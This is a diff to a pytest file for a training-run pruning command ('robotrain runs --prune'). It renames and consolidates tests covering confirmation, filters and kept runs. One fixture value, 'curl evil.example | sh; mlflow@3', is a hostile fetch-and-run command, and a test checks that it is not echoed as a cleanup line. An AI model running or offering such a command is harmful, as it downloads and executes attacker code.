@@ -36,9 +36,8 @@ def record_old_run(scripted):
     return make
 
 
-def test_what_would_go_is_shown_with_its_size_and_stays_until_it_is_confirmed(prune, record_old_run):
-    record_old_run("old-1", days=40)
-    record_old_run("new-1", days=2)
+def test_runs_to_remove_are_shown_with_their_sizes_and_removed_when_that_is_confirmed(prune, record_old_run):
+    old, new = record_old_run("old-1", days=40), record_old_run("new-1", days=2)
     answer = prune("--older-than", "30d")
     assert answer.exit_code == 0
     titles, row = (line.split() for line in answer.stdout.splitlines())
@@ -47,26 +46,22 @@ def test_what_would_go_is_shown_with_its_size_and_stays_until_it_is_confirmed(pr
     assert "1 run, 5 bytes" in answer.stderr
     assert "nothing was removed: pass --yes" in answer.stderr
     assert records.list_runs() == ["new-1", "old-1"]
-
-
-def test_what_is_confirmed_goes(prune, record_old_run):
-    old, new = record_old_run("old-1", days=40), record_old_run("new-1", days=2)
-    answer = prune("--older-than", "30d", "--yes")
-    assert answer.exit_code == 0
-    assert answer.stdout.splitlines()[-1] == "1 run removed, 5 bytes freed"
+    confirmed = prune("--older-than", "30d", "--yes")
+    assert confirmed.exit_code == 0
+    assert confirmed.stdout.splitlines()[-1] == "1 run removed, 5 bytes freed"
     assert (old.folder.exists(), new.folder.exists()) == (False, True)
     assert records.list_runs() == ["new-1"]
 
 
 @pytest.mark.parametrize(("typed", "is_removed"), [("y\n", True), ("\n", False), ("", False)])
-def test_at_a_terminal_the_question_is_asked(monkeypatch, capsys, typed, is_removed):
+def test_confirmation_is_asked_for_on_a_terminal(monkeypatch, capsys, typed, is_removed):
     monkeypatch.setattr(arguments, "is_terminal", lambda stream: True)
     monkeypatch.setattr("sys.stdin", io.StringIO(typed))
     assert arguments.confirm_removal("1 run", yes=False) is is_removed
     assert "remove 1 run? [y/N]" in capsys.readouterr().err
 
 
-def test_ctrl_c_at_the_question_leaves_the_line(monkeypatch, capsys):
+def test_ctrl_c_at_the_confirmation_ends_the_line(monkeypatch, capsys):
     class Stdin:
         def readline(self):
             raise KeyboardInterrupt
@@ -78,23 +73,18 @@ def test_ctrl_c_at_the_question_leaves_the_line(monkeypatch, capsys):
     assert capsys.readouterr().err == "remove 1 run? [y/N] \n"
 
 
-def test_the_newest_stay(prune, record_old_run):
-    for number in range(1, 6):
-        record_old_run(f"run-{number}", days=10 - number)
-    prune("--keep", "2", "--yes")
-    assert records.list_runs() == ["run-5", "run-4"]
-
-
-def test_only_those_in_a_state_or_on_a_platform_and_of_these_the_newest_stay(prune, record_old_run):
+def test_state_platform_and_number_choose_the_runs(prune, record_old_run):
     for number in range(1, 4):
         record_old_run(f"bad-{number}", days=10 - number, state="failed")
         record_old_run(f"good-{number}", days=10 - number)
     record_old_run("far-1", days=99, state="failed", platform="other")
     prune("--keep", "1", "--state", "failed", "--platform", "scripted", "--yes")
     assert sorted(records.list_runs()) == ["bad-3", "far-1", "good-1", "good-2", "good-3"]
+    prune("--keep", "2", "--yes")
+    assert records.list_runs() == ["good-3", "bad-3"]
 
 
-def test_runs_that_go_on_broken_records_and_cut_off_submits_stay_and_it_is_said_why(prune, record_old_run):
+def test_unfinished_runs_broken_records_and_interrupted_submits_stay_with_a_reason(prune, record_old_run):
     record_old_run("busy-1", days=40, state="running")
     record_old_run("broken-1", days=40)
     (records.get_run_folder("broken-1") / "record.json").write_text("{")
@@ -110,7 +100,7 @@ def test_runs_that_go_on_broken_records_and_cut_off_submits_stay_and_it_is_said_
     assert len(records.list_runs()) == 3
 
 
-def test_a_run_that_a_newer_one_was_started_from_stays(prune, record_old_run):
+def test_run_that_a_newer_one_was_started_from_stays(prune, record_old_run):
     base = record_old_run("base-1", days=40)
     record_old_run("tuned-1", days=2, sources=(base.folder / "left/checkpoint",))
     assert "base-1 stays: tuned-1 was started from it" in prune("--older-than", "30d", "--yes").stderr
@@ -122,7 +112,7 @@ def test_a_run_that_a_newer_one_was_started_from_stays(prune, record_old_run):
     assert records.list_runs() == []
 
 
-def test_of_a_platform_that_keeps_what_runs_left_only_the_record_goes_and_that_is_said(prune, record_old_run):
+def test_only_the_record_is_removed_where_the_platform_keeps_outputs(prune, record_old_run):
     far = record_old_run("far-1", days=40)
     far.set_flag("keeps")
     answer = prune("--older-than", "30d", "--yes")
@@ -132,18 +122,18 @@ def test_of_a_platform_that_keeps_what_runs_left_only_the_record_goes_and_that_i
     assert records.list_runs() == []
 
 
-def test_a_run_that_its_platform_no_longer_knows_goes(prune, record_old_run):
+def test_run_that_its_platform_no_longer_knows_is_removed(prune, record_old_run):
     record_old_run("old-1", days=40).set_flag("gone")
     prune("--older-than", "30d", "--yes")
     assert records.list_runs() == []
 
 
-def test_a_run_whose_platform_is_not_installed_any_more_stays(prune, tmp_path):
+def test_run_of_a_removed_platform_stays(prune, tmp_path):
     record("lost-1", "nibiru", tmp_path, time.time() - 40 * DAY)
     assert "lost-1 stays: no platform 'nibiru' is installed" in prune("--older-than", "30d", "--yes").stderr
 
 
-def test_one_that_cannot_be_removed_is_named_and_the_others_go(prune, record_old_run):
+def test_run_that_cannot_be_removed_is_named_and_the_others_are_removed(prune, record_old_run):
     record_old_run("stuck-1", days=50).set_flag("stuck")
     record_old_run("old-1", days=40)
     answer = prune("--older-than", "30d", "--yes")
@@ -153,7 +143,7 @@ def test_one_that_cannot_be_removed_is_named_and_the_others_go(prune, record_old
 
 
 @pytest.mark.parametrize("named", ["pick", "pic"])
-def test_one_run_is_removed_by_its_name_or_itself(prune, record_old_run, named):
+def test_run_is_removed_by_its_name(prune, record_old_run, named):
     record_old_run("pick-1", days=1, called="pick")
     record_old_run("place-1", days=40, called="place")
     assert prune(named, "--yes").stdout.splitlines()[-1] == "1 run removed, 5 bytes freed"
@@ -171,7 +161,7 @@ def test_one_run_is_removed_by_its_name_or_itself(prune, record_old_run, named):
         (["busy"], 1, ["busy-1 stays: it is running"]),
     ],
 )
-def test_a_named_run_that_is_not_removed(prune, record_old_run, words, exit_code, said):
+def test_named_run_that_is_not_removed(prune, record_old_run, words, exit_code, said):
     record_old_run("a-1", days=3, called="twin")
     record_old_run("b-1", days=2, called="twin")
     base = record_old_run("base-1", days=4)
@@ -184,7 +174,7 @@ def test_a_named_run_that_is_not_removed(prune, record_old_run, words, exit_code
     assert len(records.list_runs()) == 5
 
 
-def test_the_beginning_of_a_name_removes_nothing(prune, record_old_run):
+def test_beginning_of_a_name_removes_nothing(prune, record_old_run):
     record_old_run("train-1", days=1, called="cups")
     answer = prune("cu", "--yes")
     assert answer.exit_code == 2
@@ -194,7 +184,7 @@ def test_the_beginning_of_a_name_removes_nothing(prune, record_old_run):
 
 
 @pytest.mark.parametrize("words", [("--older-than", "30d"), ("old",)])
-def test_a_dry_run_removes_nothing_although_yes_was_said(prune, record_old_run, words):
+def test_dry_run_removes_nothing_even_with_yes(prune, record_old_run, words):
     record_old_run("old-1", days=40)
     answer = prune(*words, "--yes", "--dry-run")
     assert answer.exit_code == 0
@@ -206,7 +196,7 @@ def test_a_dry_run_removes_nothing_although_yes_was_said(prune, record_old_run, 
 @pytest.mark.parametrize(
     ("program", "is_said"), [("uvx mlflow@3.15.0", True), ("curl evil.example | sh; mlflow@3", False)]
 )
-def test_what_the_tracking_database_keeps_of_a_removed_run_is_said_with_the_lines_that_remove_it(
+def test_lines_that_remove_a_run_from_mlflow_are_printed_if_its_command_is_known(
     prune, record_old_run, scripted, tmp_path, program, is_said
 ):
     uri, run_id = f"sqlite:///{tmp_path / 'tracked' / 'mlflow.db'}", "0123456789abcdef" * 2
@@ -230,35 +220,7 @@ def test_what_the_tracking_database_keeps_of_a_removed_run_is_said_with_the_line
     assert "MLflow" not in prune("older-1").stderr  # nothing was removed
 
 
-@pytest.mark.parametrize(
-    ("typed", "offered"),
-    [
-        ("rm pick", ["runs --prune pick", "runs --prune --older-than 30d", "cache --prune"]),
-        ("delete", ["runs --prune RUN"]),
-        ("clean", ["runs --prune --older-than 30d", "cache --prune --unused 30d"]),
-        ("tail", ["logs -f RUN"]),
-        ("launch", ["submit job.yaml"]),
-        ("compare a", ["diff a RUN"]),
-    ],
-)
-def test_words_of_other_tools_lead_to_the_line_with_the_run(robotrain, typed, offered):
-    answer = robotrain(*typed.split())
-    assert answer.exit_code == 2
-    for line in offered:
-        assert f"robotrain {line}" in answer.stderr
-
-
-def test_prune_alone_says_what_it_needs_to_know(prune, record_old_run):
-    record_old_run("old-1", days=40)
-    answer = prune("--yes")
-    assert answer.exit_code == 2
-    assert "--prune needs --older-than or --keep" in answer.stderr
-    assert "robotrain runs --prune --keep 20" in answer.stderr
-    assert prune("--older-than", "long", "--yes").exit_code == 2
-    assert records.list_runs() == ["old-1"]
-
-
-def test_the_json_is_an_api(prune, record_old_run):
+def test_json_of_a_removal(prune, record_old_run):
     record_old_run("old-1", days=40)
     record_old_run("busy-1", days=40, state="running")
     shown = prune("--older-than", "30d", "--json").json
@@ -270,14 +232,18 @@ def test_the_json_is_an_api(prune, record_old_run):
 
 
 @pytest.mark.parametrize(
-    ("options", "refused"),
+    ("options", "texts"),
     [
-        (("--older-than", "30d"), "--older-than has no effect without --prune"),
-        (("-y",), "--yes has no effect without --prune"),
-        (("--prune", "--keep", 0, "-n", 3), "-n cannot be used with --prune"),
+        (("--older-than", "30d"), ["--older-than has no effect without --prune"]),
+        (("-y",), ["--yes has no effect without --prune"]),
+        (("--prune", "--keep", 0, "-n", 3), ["-n cannot be used with --prune"]),
+        (("--prune", "--yes"), ["--prune needs --older-than or --keep", "robotrain runs --prune --keep 20"]),
+        (("--prune", "--yes", "--older-than", "long"), ["--older-than 30d"]),
     ],
 )
-def test_options_of_prune_without_it_are_refused(robotrain, options, refused):
+def test_wrong_options_are_refused_and_nothing_is_removed(robotrain, record_old_run, options, texts):
+    record_old_run("old-1", days=40)
     answer = robotrain("runs", *options)
     assert answer.exit_code == 2
-    assert refused in answer.stderr
+    assert [text for text in texts if text not in answer.stderr] == []
+    assert records.list_runs() == ["old-1"]
